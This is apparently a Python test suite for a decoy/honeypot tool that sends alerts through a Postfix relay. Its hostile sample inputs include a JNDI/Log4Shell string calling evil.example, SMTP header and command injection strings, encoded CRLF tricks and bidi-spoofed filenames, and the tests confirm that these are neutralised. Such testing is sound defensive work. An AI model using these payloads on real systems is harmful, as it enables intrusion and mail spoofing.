"""The decoy's mails through Postfix as Debian ships it, in its strict ways: in clear, with STARTTLS and a login checked by Cyrus SASL, refused, and
away. What lies in the mailbox is read by Python's own email module: test_servers_relay.py CALTROP FOLDER OUTLET_TOOL"""
import email
import email.policy
import email.utils
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import unittest

import server_case
from server_case import DEADLINE, FOLDER_OF_OUTLETS, Server, await_that

sys.path.insert(0, str(FOLDER_OF_OUTLETS))
import harness  # noqa: E402  (its folder is known only now)

CALTROP, FOLDER, TOOL = (pathlib.Path(p).resolve() for p in sys.argv[1:4])
harness.TOOL = str(TOOL)
PLAIN, LOGIN, MOODY = 25, 587, 2451
NAME, PASSWORD = "decoy", "p\u00e4ss w\u00f6rd!"
EVIL = "${jndi:ldap://evil.example:1389/a}"

MAIN = """
compatibility_level = 3.6
myhostname = mx.example
mydestination =
inet_interfaces = all
inet_protocols = ipv4
maillog_file = /var/log/maillog
queue_directory = /var/spool/postfix
alias_maps =
alias_database =
virtual_mailbox_domains = corp.example
virtual_mailbox_base = /var/mail
virtual_mailbox_maps = static:all/
virtual_uid_maps = static:1901
virtual_gid_maps = static:1901
header_checks = regexp:/etc/postfix/header_checks
strict_rfc821_envelopes = yes
strict_7bit_headers = yes
strict_8bitmime = yes
strict_mime_encoding_domain = yes
smtpd_forbid_bare_newline = yes
smtpd_forbid_unauth_pipelining = yes
smtpd_helo_required = yes
smtpd_error_sleep_time = 0
smtpd_client_connection_rate_limit = 0
smtpd_tls_cert_file = /etc/postfix/pem
smtpd_tls_auth_only = yes
smtpd_tls_received_header = yes
smtpd_sasl_path = smtpd
cyrus_sasl_config_path = /etc/postfix/sasl
smtpd_sasl_local_domain = mx.example
smtpd_relay_restrictions = reject_unauth_destination
"""
MASTER = """
%d inet n - n - - smtpd
%d inet n - n - - smtpd -o smtpd_tls_security_level=encrypt -o smtpd_sasl_auth_enable=yes
  -o smtpd_recipient_restrictions=permit_sasl_authenticated,reject
%d inet n - n - - smtpd -o max_use=1 -o smtpd_recipient_restrictions=check_recipient_access,texthash:/etc/postfix/mood
pickup unix n - n 60 1 pickup
cleanup unix n - n - 0 cleanup
qmgr unix n - n 300 1 qmgr
tlsmgr unix - - n 1000? 1 tlsmgr
rewrite unix - - n - - trivial-rewrite
bounce unix - - n - 0 bounce
defer unix - - n - 0 bounce
trace unix - - n - 0 bounce
proxymap unix - - n - - proxymap
virtual unix - n n - - virtual
anvil unix - - n - 1 anvil
scache unix - - n - 1 scache
postlog unix-dgram n - n - 1 postlogd
""" % (PLAIN, LOGIN, MOODY)
SASL = "pwcheck_method: auxprop\nauxprop_plugin: sasldb\nmech_list: PLAIN LOGIN\nsasldb_path: /etc/sasldb2\n"


def alert(n, **more):
    own = {"actor": "%032x" % 77, "sequence": n, "news": "new", "grade": "exploit", "normal": EVIL}
    own.update(more.pop("caltrop", {}))
    return {"@timestamp": "2026-11-25T20:00:00Z", "message": "JNDI payload (exploit) from 10.0.0.7 on web1",
            "event": {"kind": "alert", "dataset": "caltrop.decoy", "action": "jndi-lookup", "id": "%032x" % n, "severity": 99},
            "observer": {"hostname": "web1"}, "source": {"ip": "10.0.0.7"}, "n": n, "caltrop": own, **more}


# What attackers would write into fields that stand in a mail.
HOSTILE = [
    "a\r\nBcc: victim@elsewhere.example\r\nX-Evil: 1",
    "a\n\n.\nMAIL FROM:<x@y.example>\nRCPT TO:<victim@elsewhere.example>\nDATA\nx",
    "a\r\n.\r\nQUIT\r\n", "a\n.\r\n", "\r.\r", ".", "..", "." * 2000, "x" * 9000, "\u00e4" * 4000, "\U0001f512 \u202egnp.exe\u202c \u65e5\u672c\u8a9e",
    "=?utf-8?q?=0D=0ABcc:_victim@elsewhere.example?=", "=0D=0A.=0D=0A", "\x00\x01\x1b[2J\x7f", "--boundary\nContent-Type: text/html\n\n<script>x</script>",
    "From here", "\nFrom x@y.example Thu Jan  1 00:00:00 1970\n", "  \t  ", EVIL, "https://evil.example/login?a=b", "\ufeff\u2028\u2029\u0085",
]


class Relay(server_case.Case):
    @classmethod
    def setUpClass(cls):
        cls.dir = tempfile.TemporaryDirectory(prefix="caltrop-servers-")
        cls.addClassCleanup(cls.dir.cleanup)
        cls.certificates = harness.Certificates()
        cls.addClassCleanup(cls.certificates.remove)
        cls.server = Server(cls.dir.name, FOLDER, "relay")
        cls.addClassCleanup(cls.server.unmount)
        for file, line in (("/etc/passwd", "postfix:x:1901:1901::/var/spool/postfix:/usr/sbin/nologin\n"), ("/etc/group", "postfix:x:1901:\npostdrop:x:1902:\n")):
            with open(cls.server.path(file), "a", encoding="ascii") as f:
                f.write(line)
        for name, text in (("main.cf", MAIN), ("master.cf", MASTER), ("sasl/smtpd.conf", SASL), ("mood", ""),
                           ("header_checks", "/^Subject:.*refuse-me/ REJECT not here\n"),
                           ("pem", pathlib.Path(cls.certificates.leaf("relay", "IP:127.0.0.1,DNS:mx.example")).read_text(encoding="ascii"))):
            cls.server.write("/etc/postfix/" + name, text)
        cls.server.run("saslpasswd2", "-p", "-c", "-u", "mx.example", NAME, input=PASSWORD.encode(), stdout=subprocess.DEVNULL)
        cls.server.run("chown", "postfix", "/etc/sasldb2", "/var/lib/postfix")
        cls.server.run("install", "-d", "-o", "postfix", "/var/mail/all")
        cls.up()
        cls.addClassCleanup(cls.down)

    @classmethod
    def up(cls):
        cls.server.start("postfix", "start-fg", port=PLAIN)

    @classmethod
    def down(cls):
        if cls.server.children:
            cls.server.run("postfix", "stop", stderr=cls.server.said)  # its master lives on otherwise
            cls.server.stop()
            cls.server.children.clear()

    def setUp(self):
        self.own = tempfile.TemporaryDirectory(prefix="caltrop-relay-")
        self.addCleanup(self.own.cleanup)
        self.tools = []
        self.addCleanup(lambda: [t.kill() for t in self.tools if t.process.poll() is None])
        self.box = self.server.path("/var/mail/all/new")
        for old in self.box.glob("*"):
            old.unlink()
        self.mood("")

    def mood(self, what):
        """What the moody door says to recipients; each connection there has a process of its own, which reads it anew."""
        path = self.server.path("/etc/postfix/mood")
        path.with_suffix(".new").write_text("corp.example %s\n" % what if what else "", encoding="ascii")
        path.with_suffix(".new").rename(path)

    def tool(self, port, more="", **options):
        url = "smtp://127.0.0.1:%d?from=decoy@web1.example&to=soc@corp.example%s" % (port, more)
        self.tools.append(harness.Tool(url, self.own.name + "/spool", step=10000, answer=10000, **options))
        self.assertEqual(self.tools[-1].greeting, "open")
        return self.tools[-1]

    def send(self, tool, n, event):
        self.assertEqual(tool.ask("offer %032x %s" % (n, json.dumps(event, separators=(",", ":")))), "ok")

    def letters(self, n):
        """As many letters as must come, with the envelope that the relay noted."""
        await_that(lambda: len(list(self.box.glob("*"))) >= n, "%d letters:\n%s" % (n, self.server.path("/var/log/maillog").read_text(errors="replace")[-3000:]))
        found = [(path, path.read_bytes()) for path in self.box.glob("*")]
        self.assertEqual(len(found), n)
        return [self.letter(raw) for _, raw in sorted(found, key=lambda f: os.stat(f[0]).st_mtime_ns)]

    def letter(self, raw):
        self.assertTrue(all(c < 128 for c in raw))
        self.assertLessEqual(max(map(len, raw.split(b"\n"))), 998)
        m = email.message_from_bytes(raw, policy=email.policy.default)
        self.assertEqual(m.defects, [])
        for name in ("From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "Content-Type", "Content-Transfer-Encoding", "Return-Path", "Delivered-To"):
            self.assertEqual(len(m.get_all(name, [])), 1, (name, raw[:2000]))
            self.assertEqual(m[name].defects, (), name)
        self.assertEqual((m["From"], m["Return-Path"], m["Delivered-To"]), ("decoy@web1.example", "<decoy@web1.example>", "soc@corp.example"))
        self.assertEqual({k.lower() for k in m} - {"from", "to", "subject", "date", "message-id", "mime-version", "content-type", "content-transfer-encoding",
                                                   "return-path", "delivered-to", "received", "references", "auto-submitted", "x-original-to", "x-priority"}, set())
        self.assertRegex(m["Message-ID"], r"^<[0-9a-f]{32}\.caltrop@[A-Za-z0-9.-]+>$")
        self.assertLess(abs(email.utils.parsedate_to_datetime(m["Date"]).timestamp() - time.time()), 3600)
        self.assertEqual(m.get_content_type(), "text/plain")
        text = m.get_content()
        self.assertNotIn("${", m["Subject"] + text)
        self.assertNotRegex(m["Subject"] + text, r"evil\.example|https?://evil")
        self.assertNotRegex(text.replace("\n", ""), r"[\x00-\x1f\x7f\u202a-\u202e\u2028\u2029\ufeff]")
        return m

    def test_in_clear(self):
        tool = self.tool(PLAIN)
        for n in range(3):
            self.send(tool, n, alert(n))
        tool.close()
        got = self.letters(3)
        self.assertEqual({m["Message-ID"][1:33] for m in got}, {"%032x" % n for n in range(3)})
        self.assertEqual(len({m["References"] for m in got}), 1)
        self.assertIn("normal: \\x24{jndi:ldap[:]//evil[.]example:1389/a}\n", got[0].get_content())

    def test_what_attackers_write(self):
        """In every field that stands in a letter: no header, no recipient and no letter comes of it, and nothing live stands in it."""
        tool = self.tool(PLAIN)
        events = [alert(n, caltrop={"normal": h, h[:30]: h, "list": [h, h]}, message=h, source={"ip": h}, observer={"hostname": h}, user={"name": h},
                        event={"kind": "alert", "dataset": "of.others", "id": "%032x" % n, "severity": 73}) for n, h in enumerate(HOSTILE)]
        events += [alert(1000 + n, event={"kind": "alert", "dataset": h, "action": h, "id": h, "severity": 99}, caltrop={"actor": h, "news": h, "grade": h})
                   for n, h in enumerate(HOSTILE)]
        for n, event in enumerate(events):
            self.send(tool, n, event)
        s = tool.await_stats(lambda s: s["waiting"] == 0)
        self.assertEqual((s["delivered"], s["failures"], s["refused"]), (len(events), 0, 0), s)
        tool.close()
        self.assertEqual(len({m["Message-ID"] for m in self.letters(len(events))}), len(events))
        self.assertNotIn("elsewhere.example", "".join(line for line in self.server.path("/var/log/maillog").read_text().splitlines() if " to=<" in line))

    def login_file(self, password):
        path = pathlib.Path(self.own.name) / "login"
        path.write_text("%s\n%s\n" % (NAME, password), encoding="utf-8")
        return "&login-file=%s" % path

    def test_starttls_and_a_login(self):
        tool = self.tool(LOGIN, self.login_file(PASSWORD), ca=self.certificates.ca)
        self.send(tool, 1, alert(1))
        tool.close()
        m = self.letters(1)[0]
        self.assertIn("using TLSv1.", m["Received"])
        self.assertIn("sasl_username=" + NAME, self.server.path("/var/log/maillog").read_text())

    def test_a_login_that_is_wrong_waits(self):
        tool = self.tool(LOGIN, self.login_file("wrong"), ca=self.certificates.ca)
        self.send(tool, 1, alert(1))
        s = tool.await_stats(lambda s: s["failures"] > 3)
        self.assertIn("535", s["last_error"])
        tool.kill()
        tool = self.tool(LOGIN, self.login_file(PASSWORD), ca=self.certificates.ca)  # mended: the outlet's spool is the same
        tool.await_stats(lambda s: s["waiting"] == 0)
        tool.close()
        self.letters(1)

    def test_without_its_login_and_with_a_stranger(self):
        for more, ca, why in (("&tls=require", self.certificates.ca, "554"), ("&tls=require", self.certificates.other, "certificate"), ("", self.certificates.ca, "530")):
            tool = self.tool(LOGIN, more, ca=ca)
            self.send(tool, 1, alert(1))
            self.assertIn(why, tool.await_stats(lambda s: s["failures"] > 3)["last_error"])
            tool.kill()
        self.assertEqual(list(self.box.glob("*")), [])

    def test_later_and_not_here(self):
        """A recipient that is refused, for now or for good, is a matter of the set-up: everything waits, and comes once it is mended."""
        for mood in ("451 4.3.0 later", "550 5.1.1 unknown"):
            self.mood(mood)
            tool = self.tool(MOODY)
            for n in range(5):
                self.send(tool, n, alert(n))
            self.assertIn("RCPT TO: " + mood[:3], tool.await_stats(lambda s: s["failures"] > 5)["last_error"])
            self.mood("OK")
            s = tool.await_stats(lambda s: s["waiting"] == 0)
            self.assertEqual((s["delivered"], s["refused"], s["dropped"]), (5, 0, 0))
            tool.close()
            got = [m["Message-ID"] for m in self.letters(5)]
            self.assertEqual(len(set(got)), 5)
            for path in self.box.glob("*"):
                path.unlink()

    def test_a_letter_that_is_refused(self):
        """Three times, then it is set aside, and holds nothing up."""
        tool = self.tool(PLAIN)
        self.send(tool, 1, alert(1))
        self.send(tool, 2, alert(2, message="refuse-me"))
        self.send(tool, 3, alert(3))
        s = tool.await_stats(lambda s: s["waiting"] == 0)
        self.assertEqual((s["delivered"], s["refused"], s["failures"]), (2, 1, 3))
        self.assertIn("the mail: 550", s["last_error"])
        tool.close()
        self.assertEqual({m["Message-ID"][32:33] for m in self.letters(2)}, {"1", "3"})
        refused = [json.loads(line) for path in pathlib.Path(self.own.name).rglob("refused.ndjson") for line in path.read_text().splitlines()]
        self.assertEqual([e["n"] for e in refused], [2])

    def test_away_and_back(self):
        tool = self.tool(PLAIN)
        self.send(tool, 0, alert(0))
        tool.await_stats(lambda s: s["delivered"] == 1)
        self.down()
        for n in range(1, 20):
            self.send(tool, n, alert(n))
        tool.await_stats(lambda s: s["failures"] > 2)
        self.up()
        tool.await_stats(lambda s: s["waiting"] == 0)
        tool.close()
        self.assertEqual(len({m["Message-ID"] for m in self.letters(20)}), 20)

    def test_a_decoy_tells_by_mail(self):
        """From the attacker's bytes to the mailbox."""
        data = pathlib.Path(self.own.name) / "data"
        events, said = open(data.with_name("events"), "wb"), open(data.with_name("said"), "wb")
        decoy = subprocess.Popen([CALTROP, "decoy", "--unprivileged", "--json", "--answer-port", "8080,2121", "--data-dir", data, "--to",
                                  "smtp://127.0.0.1:%d?from=decoy@web1.example&to=soc@corp.example" % PLAIN], stdin=subprocess.DEVNULL, stdout=events, stderr=said)
        try:
            await_that(lambda: '"alive"' in data.with_name("events").read_text() or decoy.poll() is not None, "the decoy")
            for source, port, lines in (("127.0.0.7", 8080, [b"GET /" + EVIL.encode() + b" HTTP/1.1\r\nHost: a\r\nUser-Agent: a\xc3\xa4\xff\r\nBcc: victim@elsewhere.example\r\n\r\n"]),
                                        ("127.0.0.8", 2121, [b"USER a\xc3\xa4=?utf-8?q?=0A?= \x1b[2J${jndi:ldap://evil.example/b}\r\n", b"PASS x\r\n"])):
                with socket.create_connection(("127.0.0.1", port), DEADLINE, (source, 0)) as s:
                    for line in lines:
                        s.sendall(line)
                        s.recv(4096)
            told = await_that(lambda: {e["source"]["ip"]: e for e in self.alerts(data.with_name("events"))}.keys() >= {"127.0.0.7", "127.0.0.8"}, "both alerts")
            self.assertTrue(told)
        finally:
            decoy.send_signal(signal.SIGTERM)
            status = decoy.wait(DEADLINE)
            events.close()
            said.close()
        self.assertEqual(status, 0, data.with_name("said").read_text())
        alerts = self.alerts(data.with_name("events"))
        got = self.letters(len(alerts))
        self.assertEqual({m["Message-ID"][1:33] for m in got}, {e["event"]["id"] for e in alerts})
        self.assertEqual(len({m["References"] for m in got}), 2)
        for source in ("127.0.0.7", "127.0.0.8"):
            self.assertTrue([m for m in got if source in m["Subject"] and "\\x24{jndi" in m.get_content()], [m["Subject"] for m in got])

    @staticmethod
    def alerts(path):
        return [e for e in map(json.loads, path.read_text().split("\n")[:-1]) if e["event"]["kind"] == "alert"]


if __name__ == "__main__":
    server_case.enter(FOLDER)
    unittest.main(argv=sys.argv[:1] + sys.argv[4:], verbosity=2)
